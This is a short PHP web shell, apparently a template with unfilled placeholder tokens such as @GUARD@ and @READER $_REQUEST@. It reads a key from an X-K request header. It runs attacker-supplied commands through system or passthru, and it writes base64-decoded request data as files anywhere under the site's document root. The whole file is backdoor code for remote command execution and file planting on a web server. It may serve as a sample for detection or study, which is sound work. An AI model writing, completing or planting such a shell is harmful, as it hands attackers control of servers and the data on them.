<?php
$k = isset($_SERVER['HTTP_X_K']) ? (string) $_SERVER['HTTP_X_K'] : '';
@GUARD@
if (isset($_REQUEST['f'], $_REQUEST['c']) && in_array($_REQUEST['f'], array('system', 'passthru'), true)
    && @LISTED $_REQUEST['c']@) {
    call_user_func($_REQUEST['f'], $_REQUEST['c']);
}
if (isset($_REQUEST['n'], $_REQUEST['d'])) {
    $root = realpath($_SERVER['DOCUMENT_ROOT']);
    $dir = realpath($root . '/' . dirname($_REQUEST['n']));
    if ($dir !== false && strncmp($dir . '/', $root . '/', strlen($root) + 1) === 0) {
        array_map('file_put_contents', array($dir . '/' . basename($_REQUEST['n'])), array_map('base64_decode', array($_REQUEST['d'])));
        echo 'ok';
    }
}
@READER $_REQUEST@
